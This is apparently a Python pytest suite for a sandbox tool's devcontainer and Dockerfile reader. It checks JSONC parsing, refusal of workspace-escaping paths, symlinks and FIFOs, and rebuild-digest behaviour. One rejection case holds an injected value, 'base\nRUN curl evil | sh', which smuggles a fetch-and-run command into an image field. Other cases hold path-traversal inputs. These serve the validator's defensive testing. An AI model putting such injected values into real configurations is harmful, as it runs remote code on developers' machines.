"""What a project's image is read from, without an engine: devcontainer.json with its comments
and trailing commas, the keys that would loosen the container reported, paths that leave the
workspace refused, and the digest that decides a rebuild (what changes it and what does not)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from airlockd.errors import PolicyError
from airlockd.sandbox.projectimage import inputs_digest
from airlockd.sandbox.projectsource import image_references, is_project_image, read_source, strip_jsonc


def test_jsonc_comments_and_trailing_commas_are_dropped_but_strings_are_kept() -> None:
    text = """// top
    {
      "a": "http://x//y /* not a comment */", /* block
      comment */ "b": [1, 2,],
      "c": {"d": "\\"quoted//\\"",},  // end
    }"""
    assert json.loads(strip_jsonc(text)) == {
        "a": "http://x//y /* not a comment */",
        "b": [1, 2],
        "c": {"d": '"quoted//"'},
    }
    assert json.loads(strip_jsonc('{"a": "x,}"}')) == {"a": "x,}"}


def test_what_names_a_project_image() -> None:
    assert is_project_image("devcontainer") and is_project_image("./ci/Dockerfile")
    assert not is_project_image("airlockd-runtime:abc") and not is_project_image(None)


def write(ws: Path, rel: str, text: str) -> Path:
    p = ws / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)
    return p


def test_a_devcontainer_build_is_read_relative_to_its_folder(tmp_path: Path) -> None:
    write(
        tmp_path,
        ".devcontainer/devcontainer.json",
        '{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1"}, "target": "dev"},'
        ' "privileged": true, "runArgs": ["--network=host"], "postCreateCommand": "make",}',
    )
    src = read_source(tmp_path, "devcontainer")
    assert (src.dockerfile, src.context, src.args, src.target) == (
        ".devcontainer/Dockerfile",
        ".",
        (("V", "1"),),
        "dev",
    )
    assert src.ignored == ("runArgs", "privileged", "postCreateCommand")


def test_a_devcontainer_image_names_a_base(tmp_path: Path) -> None:
    write(tmp_path, ".devcontainer.json", '{"image": "mcr.example/python:3.12"}')
    src = read_source(tmp_path, "devcontainer")
    assert src.base_image == "mcr.example/python:3.12" and src.dockerfile is None


@pytest.mark.parametrize(
    ("doc", "says"),
    [
        ("{not json", "not valid JSON"),
        ("[]", "not a JSON object"),
        ("{}", "neither `image` nor `build.dockerfile`"),
        ('{"dockerComposeFile": "c.yml"}', "Docker Compose"),
        ('{"build": {"dockerfile": "../../../etc/Dockerfile"}}', "leads out of the workspace"),
        ('{"build": {"dockerfile": "D", "context": "/"}}', "leads out of the workspace"),
        ('{"build": {"dockerfile": "D", "args": {"A": 1}}}', "build.args strings"),
        ('{"image": "base\\nRUN curl evil | sh"}', "not an image reference"),
    ],
)
def test_a_bad_devcontainer_says_what_is_wrong(tmp_path: Path, doc: str, says: str) -> None:
    write(tmp_path, ".devcontainer/devcontainer.json", doc)
    with pytest.raises(PolicyError, match=says):
        read_source(tmp_path, "devcontainer")


def test_no_devcontainer_or_dockerfile(tmp_path: Path) -> None:
    with pytest.raises(PolicyError, match=r"no \.devcontainer/devcontainer\.json"):
        read_source(tmp_path, "devcontainer")
    with pytest.raises(PolicyError, match="cannot be read"):
        read_source(tmp_path, "./Dockerfile")


def test_a_dockerfile_linked_out_of_the_workspace_is_refused(tmp_path: Path) -> None:
    outside = write(tmp_path, "outside/Dockerfile", "FROM x\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    os.symlink(outside, ws / "Dockerfile")
    with pytest.raises(PolicyError, match="leads out of the workspace"):
        read_source(ws, "./Dockerfile")


def test_the_digest_follows_the_inputs_and_nothing_else(tmp_path: Path) -> None:
    ws = tmp_path
    write(ws, "Dockerfile", "FROM base\nCOPY . /src\n")
    write(ws, "src/app.py", "print(1)\n")
    write(ws, ".dockerignore", "notes/\n")
    write(ws, "notes/todo.txt", "x")

    def digest(runtime: str = "rt:1", scope: str = "s1", network: str = "none") -> str:
        return inputs_digest(ws, read_source(ws, "./Dockerfile"), runtime, None, scope, network)

    first = digest()
    assert digest() == first
    write(ws, "notes/todo.txt", "changed")  # ignored by .dockerignore
    assert digest() == first
    write(ws, ".git/HEAD", "ref: refs/heads/main\n")  # never part of a context
    assert digest() == first
    write(ws, "src/app.py", "print(2)  # longer\n")
    second = digest()
    assert second != first
    write(ws, "Dockerfile", "FROM base\nCOPY . /src\nENV X=1\n")
    third = digest()
    assert third != second
    assert digest("rt:2") != third  # a new runtime image: a new layer on top
    assert digest(scope="s2") != third  # other staging rules or clearance: another context
    assert digest(network="default") != third


def test_the_same_files_elsewhere_are_another_workspace(tmp_path: Path) -> None:
    for ws in (tmp_path / "a", tmp_path / "b"):
        write(ws, "Dockerfile", "FROM base\n")
        os.utime(ws / "Dockerfile", (1, 1))
    a, b = (
        inputs_digest(ws, read_source(ws, "./Dockerfile"), "rt", None, "s") for ws in (tmp_path / "a", tmp_path / "b")
    )
    assert a != b


def test_definition_files_that_are_not_regular_files_are_refused_never_waited_on(tmp_path: Path) -> None:
    write(tmp_path, "Dockerfile", "FROM base\n")
    os.mkfifo(tmp_path / ".dockerignore")
    with pytest.raises(PolicyError, match="not a regular file"):
        inputs_digest(tmp_path, read_source(tmp_path, "./Dockerfile"), "rt", None, "s")
    (tmp_path / ".dockerignore").unlink()
    os.symlink("/dev/zero", tmp_path / ".dockerignore")
    with pytest.raises(PolicyError, match="cannot be read"):
        inputs_digest(tmp_path, read_source(tmp_path, "./Dockerfile"), "rt", None, "s")
    os.mkfifo(tmp_path / "fifo.Dockerfile")
    with pytest.raises(PolicyError, match="not a regular file"):
        read_source(tmp_path, "./fifo.Dockerfile")
    write(tmp_path, "big.Dockerfile", "#" * (2 << 20))
    with pytest.raises(PolicyError, match="larger than"):
        read_source(tmp_path, "./big.Dockerfile")


def test_the_images_a_dockerfile_would_pull_are_found() -> None:
    text = (
        "# syntax comment\nARG BASE=x\nFROM --platform=linux/amd64 python:3.12-slim AS build\n"
        "RUN make \\\n  all\nFROM build AS test\nFROM ${BASE}\nFROM scratch\n"
        "COPY --from=build /a /a\nCOPY --from=other/image:1 /b /b\nCOPY --from=0 /c /c\n"
        "from Lower:Case\n"
    )
    assert image_references(text) == ["python:3.12-slim", "other/image:1", "Lower:Case"]
